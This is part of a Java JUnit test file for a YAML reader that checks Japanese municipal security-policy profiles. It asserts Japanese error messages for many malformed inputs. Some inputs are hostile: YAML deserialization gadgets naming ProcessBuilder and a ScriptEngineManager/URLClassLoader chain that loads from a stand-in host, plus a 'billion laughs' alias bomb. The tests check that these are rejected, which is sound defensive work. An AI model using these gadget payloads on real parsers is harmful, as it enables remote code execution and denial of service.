                err(8, 64, "adopted（改正の訓令を定めた日: 2026-04-10）が、その改正の施行日 date（2026-04-01）より後です。"
                        + "adopted には訓令を定めた日を、date には施行した日を書いてください（adopted は date と同じ日かそれより前です）。")));
        c.add(bad("code with a wrong check digit", with("  kind: city", "  kind: city\n  code: \"012346\""),
                err(5, 9, "地方公共団体コード「012346」の検査数字（6桁目）が正しくありません。前の5桁から計算すると 3 です（\"012343\"）。")));
        c.add(bad("code of 5 digits", with("  kind: city", "  kind: city\n  code: \"01234\""),
                err(5, 9, "'municipality.code' の「01234」は地方公共団体コードではありません。地方公共団体コードは半角数字6桁"
                        + "（5桁と検査数字1桁）で、先頭の0が消えないよう \"012025\" のように \"…\" で囲んで書いてください。")));
        c.add(bad("code of 7 digits", with("  kind: city", "  kind: city\n  code: \"0120250\""),
                err(5, 9, "'municipality.code' の「0120250」は地方公共団体コードではありません。地方公共団体コードは半角数字6桁"
                        + "（5桁と検査数字1桁）で、先頭の0が消えないよう \"012025\" のように \"…\" で囲んで書いてください。")));
        c.add(bad("code as a number that lost its leading zero", with("  kind: city", "  kind: city\n  code: 12025"),
                err(5, 9, "'municipality.code' の「12025」は地方公共団体コードではありません。地方公共団体コードは半角数字6桁"
                        + "（5桁と検査数字1桁）で、先頭の0が消えないよう \"012025\" のように \"…\" で囲んで書いてください。")));
        c.add(bad("code in full-width digits", with("  kind: city", "  kind: city\n  code: \"０１２０２５\""),
                err(5, 9, "'municipality.code' の「０１２０２５」は地方公共団体コードではありません。地方公共団体コードは半角数字6桁"
                        + "（5桁と検査数字1桁）で、先頭の0が消えないよう \"012025\" のように \"…\" で囲んで書いてください。")));

        // ---- dates that cannot exist -------------------------------------------------------------------
        c.add(bad("30 February", with("2026-04-01", "2025-02-30"),
                err(6, 14, "'policy.effective' の「2025-02-30」は存在しない日付です。月と日を確かめてください。")));
        c.add(bad("month 13", with("2026-04-01", "2025-13-01"),
                err(6, 14, "'policy.effective' の「2025-13-01」は存在しない日付です。月と日を確かめてください。")));
        c.add(bad("year 0 (no wareki)", with("2026-04-01", "0000-01-01"),
                err(6, 14, "'policy.effective' の「0000-01-01」は範囲外です。1989-01-08（平成元年1月8日）から 2099-12-31 までの日付を書いてください。")));

        // ---- files that are not a profile at all ----------------------------------------------------------
        String empty = "ファイルが空です（コメントのほかに何も書かれていません）。README のひな形か profiles/ の見本をコピーして書いてください。";
        c.add(bad("empty file", "", fileErr(empty)));
        c.add(bad("only comments", "# 架空市のプロファイル\n# あとで書く\n", fileErr(empty)));
        c.add(bad("only blank lines", "  \n\n", fileErr(empty)));
        c.add(bad("a list at the root", "- municipality\n- policy\n",
                err(1, 1, "ファイル全体が一覧（「- 」で始まる行）になっています。プロファイルは行頭から「municipality:」「policy:」"
                        + "「organization:」「network:」などの「項目名:」で書き始めてください（profiles/ の見本を参照）。")));
        c.add(bad("a scalar at the root", "架空市\n",
                err(1, 1, "ファイル全体が1つの値として読まれました（「項目名: 値」の「: 」がありません）。プロファイルは行頭から"
                        + "「municipality:」「policy:」「organization:」「network:」などの「項目名:」で書き始めてください（profiles/ の見本を参照）。")));

        // ---- duplicates, aliases, nesting, size --------------------------------------------------------------
        c.add(bad("duplicate top-level key", M + "network:\n  model: beta\n",
                err(18, 1, "'network' が2回書かれています（1回目は 16 行目）。1つにまとめてください。")));
        c.add(bad("duplicate nested key", with("  kind: city", "  kind: city\n  kind: town"),
                err(5, 3, "'kind' が2回書かれています（1回目は 4 行目）。1つにまとめてください。")));
        c.add(fixture("alias bomb (billion laughs)", "billion-laughs.yaml",
                err(8, 28, "別名（*名前）の参照が多すぎます（50 個まで）。プロファイルでは別名（& と *）を使わずに、値をそのまま書いてください。")));
        c.add(bad("merge key", with("  ciso: 副市長", "  <<: { ciso: 副市長 }"),
                err(8, 3, "「<<:」（別の項目の取り込み）は使えません。取り込む項目をここにそのまま書いてください。")));
        String deep = "字下げの階層が深すぎます（20 階層まで）。プロファイルの階層は README の見本のとおりにしてください。";
        c.add(fixture("deep nesting", "deep-nesting.yaml", err(22, 41, deep)));
        c.add(bad("deep nesting in brackets", "municipality: " + "[".repeat(30) + "]".repeat(30) + "\n", err(1, 34, deep)));
        c.add(bad("name of 10,000 characters", with("name: 架空市", "name: " + "架".repeat(10_000)),
                err(3, 9, "'municipality.name' が長すぎます（10000 文字）。100 文字以内にしてください。")));
        c.add(bad("file over 1 MB", M + "# " + "x".repeat(1_000_001) + "\n",
                fileErr("ファイルが大きすぎます（1 MB を超えています）。プロファイルは 1 MB（1,000,000 バイト）以下にしてください。"
                        + "見本のプロファイルは数 KB です。")));

        // ---- control characters --------------------------------------------------------------------------
        c.add(fixture("NUL in a value", "nul-in-value.yaml",
                err(5, 11, "制御文字（NUL、U+0000）が含まれています。" + UNUSABLE)));
        c.add(bad("BEL in a value", with("name: 架空市", "name: 架空\u0007市"),
                err(3, 11, "制御文字（ベル、U+0007）が含まれています。" + UNUSABLE)));
        c.add(bad("ESC in a value", with("name: 架空市", "name: 架空\u001b市"),
                err(3, 11, "制御文字（エスケープ、U+001B）が含まれています。" + UNUSABLE)));
        c.add(bad("BEL written as an escape", with("name: 架空市", "name: \"架空\\a市\""),
                err(3, 9, "'municipality.name' に制御文字（ベル、U+0007）が含まれています。" + UNUSABLE)));
        c.add(bad("ESC written as an escape", with("name: 架空市", "name: \"架空\\e市\""),
                err(3, 9, "'municipality.name' に制御文字（エスケープ、U+001B）が含まれています。" + UNUSABLE)));
        c.add(bad("NUL written as an escape", with("name: 架空市", "name: \"架空\\0市\""),
                err(3, 9, "'municipality.name' に制御文字（NUL、U+0000）が含まれています。" + UNUSABLE)));
        c.add(bad("lone surrogate written as an escape", with("name: 架空市", "name: \"\\ud800\""),
                err(3, 9, "'municipality.name' に壊れた文字（U+D800）が含まれています。" + UNUSABLE)));
        c.add(bad("direction override in a value", with("name: 架空市", "name: 架空\u202e市"),
                err(3, 9, "'municipality.name' に文字の向きを変える制御文字（U+202E）が含まれています。" + UNUSABLE)));
        c.add(bad("line break in a one-line value", with("name: 架空市", "name: \"架空\\n市\""),
                err(3, 9, "'municipality.name' には改行を含められません。1行で書いてください。")));
        c.add(bad("control character in a key", with("  name: 架空市", "  \"na\\x1bme\": 架空市"),
                err(3, 3, "項目名「na[U+001B]me」に制御文字（エスケープ、U+001B）が含まれています。この文字を削除し、"
                        + "「name:」のように英字で書いてください。")));

        // ---- YAML tags: nothing is ever constructed from them ---------------------------------------------
        c.add(bad("tag naming ProcessBuilder", with("  name: 架空市", "  name: !!java.lang.ProcessBuilder [calc]"),
                err(3, 9, TAG_PB)));
        c.add(bad("tag naming ScriptEngineManager", with("  name: 架空市",
                "  name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]"),
                err(3, 9, "型指定「!!javax.script.ScriptEngineManager」は使えません。プロファイルには値だけを書きます。"
                        + "「!!javax.script.ScriptEngineManager」を削除してください。"),
                err(3, 45, "型指定「!!java.net.URLClassLoader」は使えません。プロファイルには値だけを書きます。"
                        + "「!!java.net.URLClassLoader」を削除してください。"),
                err(3, 73, "型指定「!!java.net.URL」は使えません。プロファイルには値だけを書きます。「!!java.net.URL」を削除してください。")));
        c.add(bad("tag naming a class on a section", with("municipality:", "municipality: !!java.util.HashMap"),
                err(2, 15, "型指定「!!java.util.HashMap」は使えません。プロファイルには値だけを書きます。「!!java.util.HashMap」を削除してください。")));
        c.add(bad("unknown local tag", with("  name: 架空市", "  name: !foo 架空市"),
                err(3, 9, "型指定「!foo」は使えません。プロファイルには値だけを書きます。「!foo」を削除してください。")));
        c.add(bad("binary tag", with("  name: 架空市", "  name: !!binary 5p625p6t5biC"),
                err(3, 9, "型指定「!!binary」は使えません。プロファイルには値だけを書きます。「!!binary」を削除してください。")));
        c.add(bad("key over 1,024 characters", M + "x".repeat(1100) + ": 1\n",
                err(18, 1, "項目名が長すぎます（1,024 文字を超えています）。項目名は決められた短い名前（name、kind など）を書き、"
                        + "長い文章は「項目名: 値」の値の側に書いてください。")));
        byte[] utf32 = M.getBytes(java.nio.charset.Charset.forName("UTF-32LE"));
        byte[] utf32bom = new byte[utf32.length + 4];
        utf32bom[0] = (byte) 0xFF;
        utf32bom[1] = (byte) 0xFE;
        System.arraycopy(utf32, 0, utf32bom, 4, utf32.length);
        c.add(bytes("UTF-32 with a BOM (not UTF-16)", utf32bom, fileErr("UTF-32 で保存されたファイルは読めません。"
                + "メモ帳の「名前を付けて保存」で文字コードを「UTF-8」にして保存し直してください。")));
        c.add(bytes("UTF-32 without a BOM", M.getBytes(java.nio.charset.Charset.forName("UTF-32BE")),
                fileErr("UTF-32 で保存されたファイルは読めません。メモ帳の「名前を付けて保存」で文字コードを「UTF-8」にして保存し直してください。")));
        c.add(bad("name of only a zero-width space", with("name: 架空市", "name: \"\u200B\""),
                err(3, 9, "'municipality.name' には見えない文字（空白やゼロ幅の文字）しかありません。値を書くか、省略できる項目なら行ごと削除してください。")));
        c.add(bad("name of only a no-break space", with("name: 架空市", "name: \"\u00A0\u3000\""),
                err(3, 9, "'municipality.name' には見えない文字（空白やゼロ幅の文字）しかありません。値を書くか、省略できる項目なら行ごと削除してください。")));
        String override = M + "overrides:\n  std.human.passwords:\n    reason: 独自の様式\n    replace: |\n";
        c.add(bad("override table row wider than its header", override
                        + "      | 項目 | 内容 |\n      |---|---|\n      | 長さ | 12文字以上 | 英数記号 |\n",
                err(24, 7, "'overrides.std.human.passwords.replace' の表のこの行のセル（3 個）が見出しの行（2 個）より多くなっています。"
                        + "見出しの行にセルを足すか、この行の「|」を減らしてください。")));
        c.add(bad("override table of only a separator row", override + "      パスワードの基準\n\n      |---|---|\n",
                err(24, 7, "'overrides.std.human.passwords.replace' の表に見出しの行がありません（区切りの行 |---| だけです）。"
                        + "「| 見出し1 | 見出し2 |」のように見出しの行を先に書いてください。")));
        c.add(bad("override list nested three levels", override
                        + "      - 長さ\n        - 12文字以上\n          - 英数記号を含む\n",
                err(24, 11, "'overrides.std.human.passwords.replace' の箇条書きは2段まで（「- 」と、半角スペース2つの「  - 」）です。"
                        + "この行の字下げを減らすか、文章に書き換えてください。")));
        c.add(bad("!!bool on a value that is not true or false", M + "features:\n  telework: !!bool maybe\n",
                err(19, 13, "型指定「!!bool」の値「maybe」は、その型の値として読めません。型指定は使わずに、「!!bool」を削除して"
                        + " true か false を書いてください。")));
        c.add(bad("!!int on words", with("  kind: city", "  kind: city\n  staff: !!int 千二百"),
                err(5, 10, "型指定「!!int」の値「千二百」は、その型の値として読めません。型指定は使わずに、「!!int」を削除して"
                        + "半角数字の整数（例: 1200）を書いてください。")));
        c.add(bad("!!timestamp on a date in words", with("effective: 2026-04-01", "effective: !!timestamp 令和8年4月1日"),
                err(6, 14, "型指定「!!timestamp」の値「令和8年4月1日」は、その型の値として読めません。型指定は使わずに、"
                        + "「!!timestamp」を削除して 2026-04-01 の形の日付を書いてください。")));

        // ---- bytes that are not a UTF-8 text file ------------------------------------------------------------
        c.add(fixture("binary junk", "binary-junk.yaml",
                fileErr("テキストファイルではありません（画像や圧縮ファイルなどのデータのようです）。プロファイルは UTF-8 の"
                        + "テキストファイル（.yaml）として作成してください。")));
        c.add(fixture("UTF-16 with a BOM", "utf-16.yaml", fileErr(UTF16)));
        c.add(fixture("UTF-16 without a BOM", "utf-16be-no-bom.yaml", fileErr(UTF16)));
        byte[] sjis = M.getBytes(YamlSource.CP932);
        byte[] broken = Arrays.copyOf(sjis, sjis.length + 3);
        broken[sjis.length] = (byte) 0x81; // a lead byte followed by nothing valid: neither UTF-8 nor Shift_JIS
        broken[sjis.length + 1] = (byte) 0xFF;
        broken[sjis.length + 2] = '\n';
        c.add(bytes("neither UTF-8 nor Shift_JIS", broken,
                err(3, 9, "文字コードを判別できません（UTF-8 としても Shift_JIS としても読めない文字があります）。この位置の文字を"
                        + "確かめ、ファイルを UTF-8 で保存し直してください。")));
        c.add(fixture("Shift_JIS (warning)", "shift_jis.yaml",
                fileWarn("文字コードが UTF-8 ではないため、Shift_JIS（CP932）として読み込みました。文字化けを防ぐため、メモ帳の"
                        + "「名前を付けて保存」で文字コードを「UTF-8」にして保存し直してください。")));
        return c;
    }

    static Stream<Case> cases() {
        return catalogue().stream();
    }

    /** SnakeYAML's own words, which must never reach the user. */
    private static final Pattern ENGLISH = Pattern.compile(
            "(?i)exception|expected|found |not allowed|scalar|while (parsing|scanning)|stream|constructor");

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void everyMistakeIsExplainedWithItsPlace(Case c) {
        ProfileReader.Result r = TestProfiles.reader().read(E, "test", c.bytes());
        List<String> actual = r.findings().stream().map(Finding::format).toList();
        assertEquals(c.expected(), actual, c.name());
        assertEquals(c.hasErrors(), r.profile().isEmpty(), "a profile exactly when there is no error");
        for (Finding f : r.findings()) {
            assertFalse(ENGLISH.matcher(f.message()).find(), () -> "English leaked: " + f.message());
            assertTrue(f.message().endsWith("。") || f.message().endsWith("？"), () -> "a whole sentence: " + f.message());
        }
    }

    @org.junit.jupiter.api.Test
    void theCatalogueIsLargeAndEveryCaseIsDifferent() {
        List<Case> all = catalogue();
        assertTrue(all.size() >= 45, "at least 45 bad profiles: " + all.size());
        assertEquals(all.size(), all.stream().map(Case::name).distinct().count(), "names are unique");
        assertEquals(all.size(), all.stream().map(x -> new String(x.bytes(), StandardCharsets.ISO_8859_1)).distinct().count(),
                "inputs are unique");
    }

    @org.junit.jupiter.api.Test
    void shiftJisProfileIsReadCorrectly() {
        ProfileReader.Result r = TestProfiles.reader().read(E, "test", resource("shift_jis.yaml"));
        Profile p = r.profile().orElseThrow(() -> new AssertionError(r.findings()));
        assertEquals("架空村", p.municipality().name());
        assertEquals("副村長", p.organization().ciso());
        assertEquals("架空村CSIRT", p.organization().csirtName());
        assertEquals("令和6年10月版ガイドラインに準拠して改定", p.policy().history().get(1).note());
        assertEquals(List.of("村長部局", "議会事務局", "教育委員会"), p.policy().scope());
        assertEquals(Finding.Severity.WARNING, r.findings().get(0).severity());
    }

    @org.junit.jupiter.api.Test
    void aFileOverTheLimitIsNotReadWhole(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws IOException {
        java.nio.file.Path big = dir.resolve("big.yaml");
        try (var out = java.nio.file.Files.newOutputStream(big)) {
            out.write(M.getBytes(StandardCharsets.UTF_8));
            byte[] comment = ("# " + "x".repeat(1000) + "\n").getBytes(StandardCharsets.UTF_8);
            for (int i = 0; i < 5_000; i++) { // 5 MB
                out.write(comment);
            }
        }
        ProfileReader.Result r = TestProfiles.reader().read(big);
        assertEquals(1, r.findings().size());
        assertEquals("too-large", r.findings().get(0).code());
        assertEquals(big + ": エラー: ファイルが大きすぎます（1 MB を超えています）。プロファイルは 1 MB（1,000,000 バイト）以下に"
                + "してください。見本のプロファイルは数 KB です。", r.findings().get(0).format());
    }

    @org.junit.jupiter.api.Test
    void aHundredErrorsAreEnough() {
        StringBuilder yaml = new StringBuilder(M);
        for (int i = 0; i < 150; i++) {
            yaml.append("unknown").append(i).append(": 1\n");
        }
        ProfileReader.Result r = TestProfiles.read(yaml.toString());
        assertEquals(101, r.findings().size());
        assertEquals(err(18, 1, "'unknown0' は不明な項目です。最上位に書ける項目は guideline, municipality, policy, organization, "
                + "network, cloud, features, overrides, parameters, law, procurement です。"), r.findings().get(0).format());
        assertEquals(fileErr("誤りが多すぎるため、100 件で表示をやめました。上の誤りを直してから、もう一度調べてください。"),
                r.findings().get(100).format());
    }

    @org.junit.jupiter.api.Test
    void manyWarningsAreCutShortButNeverRefuseTheProfile() {
        StringBuilder yaml = new StringBuilder(M + "cloud:\n  services:\n");
        for (int i = 0; i < 120; i++) {
            yaml.append("    - { name: サービス").append(i).append(", ismap: false, confidential: false, purpose: 会議 }\n");
        }
        ProfileReader.Result r = TestProfiles.read(yaml.toString());
        assertTrue(r.profile().isPresent(), () -> r.findings().toString());
        assertEquals(120, r.profile().get().cloud().services().size());
        assertEquals(101, r.findings().size());
        assertEquals(fileWarn("警告が多すぎるため、100 件で表示をやめました。上の警告を直してから、もう一度調べてください。"),
                r.findings().get(100).format());
    }

    /** 全角 colons and spaces in values, comments and block texts are text, not mistakes. */
    @org.junit.jupiter.api.Test
    void fullWidthInsideTextIsLeftAlone() {
        Profile p = TestProfiles.profile(with("  committee: 架空市情報セキュリティ委員会",
                "  committee: 架空市：情報セキュリティ委員会　（本部）  # 全角：コメント\n  # 　全角スペースのあるコメント")
                + "overrides:\n  std.human.passwords:\n    replace: |\n      　パスワードは：次のとおりとする。\n"
                + "      　- 十五文字以上\n    reason: 本市：規程\n");
        assertEquals("架空市：情報セキュリティ委員会　（本部）", p.organization().committee());
        Profile continued = TestProfiles.profile(with("  committee: 架空市情報セキュリティ委員会",
                "  committee: 架空市情報セキュリティ委員会\n    URL：https://example.jp\n    Web　：会議"));
        assertEquals("架空市情報セキュリティ委員会 URL：https://example.jp Web　：会議", continued.organization().committee(),
                "the next lines of a value are text, whatever they start with");
    }

    @org.junit.jupiter.api.Test
    void scalarAliasesAreHarmlessAndAllowed() {
        Profile p = TestProfiles.profile(with("  ciso: 副市長", "  ciso: &chief 副市長\n  ciso_advisor: *chief"));
        assertEquals("副市長", p.organization().cisoAdvisor().orElseThrow());
    }

    // ---- the same mistakes through the command line ------------------------------------------------------

    static final List<String> CLI_SUBSET = List.of("unclosed double quote", "tab as indentation", "全角コロン after a key",
            "全角スペース as indentation",
            "unknown key in municipality", "list for a string", "missing policy.effective", "model not in its list",
            "beta without edr", "guideline not in its list", "override with omit and append",
            "code with a wrong check digit", "30 February", "empty file", "a list at the root", "duplicate top-level key",
            "alias bomb (billion laughs)", "deep nesting", "file over 1 MB", "NUL in a value", "tag naming ProcessBuilder",
            "binary junk", "UTF-16 with a BOM");

    static Stream<Case> cliCases() {
        List<Case> all = catalogue();
        return CLI_SUBSET.stream().map(n -> all.stream().filter(c -> c.name().equals(n)).findFirst()
                .orElseThrow(() -> new IllegalArgumentException("no case " + n)));
    }

    /** What the command line printed and returned (jp.policygen.cli.Cli, from this package). */
    record Run(int status, String out, String err) {
        static Run of(String... args) {
            java.io.StringWriter out = new java.io.StringWriter();
            java.io.StringWriter err = new java.io.StringWriter();
            int status = jp.policygen.cli.Main.run(args, new java.io.PrintWriter(out, true), new java.io.PrintWriter(err, true));
            return new Run(status, out.toString(), err.toString());
        }
    }

    /** Every file under {@code dir} with its bytes. */
    static java.util.Map<String, String> tree(java.nio.file.Path dir) throws IOException {
        java.util.Map<String, String> files = new java.util.TreeMap<>();
        try (Stream<java.nio.file.Path> s = java.nio.file.Files.walk(dir)) {
            for (java.nio.file.Path p : s.toList()) {
                String rel = dir.relativize(p).toString().replace('\\', '/');
                files.put(rel + (java.nio.file.Files.isDirectory(p) ? "/" : ""), java.nio.file.Files.isDirectory(p) ? ""
                        : new String(java.nio.file.Files.readAllBytes(p), StandardCharsets.ISO_8859_1));
            }
        }
        return files;
    }

    /** An output folder from an earlier run: a file beside the profile's folder and a document in it. */
    static java.nio.file.Path earlierOutput(java.nio.file.Path dir) throws IOException {
        java.nio.file.Path out = java.nio.file.Files.createDirectories(dir.resolve("out"));
        java.nio.file.Files.writeString(out.resolve("keep.txt"), "前回の出力\n", StandardCharsets.UTF_8);
        java.nio.file.Path previous = java.nio.file.Files.createDirectories(out.resolve("profile"));
        java.nio.file.Files.writeString(previous.resolve("01_情報セキュリティ基本方針.html"), "<p>前回の基本方針</p>\n",
                StandardCharsets.UTF_8);
        return out;
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cliCases")
    void generateRefusesTheProfileAndLeavesTheOutputFolderAsItWas(Case c,
            @org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws IOException {
        java.nio.file.Path profile = java.nio.file.Files.write(dir.resolve("profile.yaml"), c.bytes());
        java.nio.file.Path out = earlierOutput(dir);
        java.util.Map<String, String> before = tree(out);

        Run r = Run.of("generate", profile.toString(), "-o", out.toString());

        assertEquals(2, r.status(), r.err());
        for (String line : c.expected()) {
            String shown = profile + line.substring(E.length());
            assertTrue(r.err().contains(shown + System.lineSeparator()), () -> "missing:\n" + shown + "\nin:\n" + r.err());
        }
        assertTrue(r.err().contains("プロファイルに誤りがあるため、文書は作成していません。"), r.err());
        assertFalse(r.err().contains("Exception") || r.err().contains("\tat "), r.err());
        assertEquals("", r.out());
        assertEquals(before, tree(out), "the output folder is exactly as it was, nothing added");
    }

    @org.junit.jupiter.api.Test
    void oneBadProfileInABatchStopsTheWholeBatch(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
            throws IOException {
        java.nio.file.Path good = TestProfiles.write(dir, "good.yaml", M);
        java.nio.file.Path bad = TestProfiles.write(dir, "profile.yaml", with("model: alpha", "model: beta"));
        java.nio.file.Path out = earlierOutput(dir);
        java.util.Map<String, String> before = tree(out);

        Run r = Run.of("generate", good.toString(), bad.toString(), "-o", out.toString(), "--format", "html");

        assertEquals(2, r.status(), r.err());
        assertTrue(r.err().contains(bad + ":17:3: エラー: " + EDR), r.err());
        assertEquals(before, tree(out), "not even the good profile's documents are written");
    }

    @org.junit.jupiter.api.Test
    void warningsArePrintedAndGenerationGoesOn(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
            throws IOException {
        java.nio.file.Path profile = TestProfiles.write(dir, "profile.yaml", M + SERVICE);
        java.nio.file.Path out = dir.resolve("out");

        Run r = Run.of("generate", profile.toString(), "-o", out.toString(), "--format", "html");

        assertEquals(0, r.status(), r.err());
        assertTrue(r.err().contains(profile + ":20:29: 警告: 「Xサービス」は ISMAP クラウドサービスリストに登録されていません。"), r.err());
        assertTrue(java.nio.file.Files.isRegularFile(out.resolve("profile").resolve("manifest.json")));
    }

    @org.junit.jupiter.api.Test
    void shiftJisProfileGeneratesWithAWarning(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
            throws IOException {
        java.nio.file.Path profile = java.nio.file.Files.write(dir.resolve("mura.yaml"), resource("shift_jis.yaml"));
        java.nio.file.Path out = dir.resolve("out");

        Run r = Run.of("generate", profile.toString(), "-o", out.toString(), "--format", "html");

        assertEquals(0, r.status(), r.err());
        assertTrue(r.err().contains(profile + ": 警告: 文字コードが UTF-8 ではないため、Shift_JIS（CP932）として読み込みました。"),
                r.err());
        String html = java.nio.file.Files.readString(out.resolve("mura").resolve("01_情報セキュリティ基本方針.html"));
        assertTrue(html.contains("架空村"), "the body's name comes through the encoding");
    }
}
